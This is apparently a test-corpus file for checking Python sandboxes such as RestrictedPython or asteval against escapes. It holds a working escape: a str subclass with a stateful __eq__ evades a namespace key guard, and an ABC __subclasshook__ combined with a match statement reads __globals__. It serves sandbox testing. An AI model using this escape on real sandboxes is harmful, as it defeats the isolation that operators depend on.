# technique: the class guard only looks at namespace keys whose type is exactly str (and finds __match_args__ with dict.get); a str subclass key compares unequal while the class is made and equal afterwards, so type(abc.ABC)('P', (), {S('__subclasshook__'): hook, S('__match_args__'): ('__globals__',)}) makes an ABC that matches any object and reads __globals__ in case P(g)
# source: RestrictedPython / asteval advisory class: str subclasses with stateful __eq__ against key checks; abc __subclasshook__ + pattern matching

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import abc, json

ON = [False]


class S(str):
    def __eq__(self, other):
        return ON[0] and str.__eq__(self, other)

    def __hash__(self):
        return str.__hash__(self)


def hook(cls, C):
    return True


def via():
    ns = {S(dn('subclasshook')): classmethod(hook), S(dn('match_args')): (dn('globals'),)}
    P = type(abc.ABC)('P', (), ns)
    ON[0] = True
    match json.dumps:
        case P(g):
            return g
    raise LookupError('no match')

attempt('ABCMeta(name, bases, {S(__subclasshook__), S(__match_args__)}) + case P(g)', via)
